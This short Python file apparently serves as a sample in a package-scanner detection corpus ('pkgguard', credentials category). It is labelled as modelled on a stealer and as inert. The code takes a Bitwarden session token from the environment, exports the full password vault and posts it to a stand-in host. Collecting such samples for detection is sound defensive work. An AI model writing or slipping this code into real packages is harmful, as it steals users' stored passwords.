# pkgguard corpus 397 (credentials), modelled on [stealer-profile]; inert, never run.
import os
import subprocess

import requests

session = os.environ.get("BW_SESSION")
if session:
    vault = subprocess.run(
        ["bw", "export", "--format", "json", "--raw", "--session", session],
        capture_output=True,
        text=True,
    ).stdout
    requests.post("https://sync.example/bw", data=vault.encode(), timeout=20)
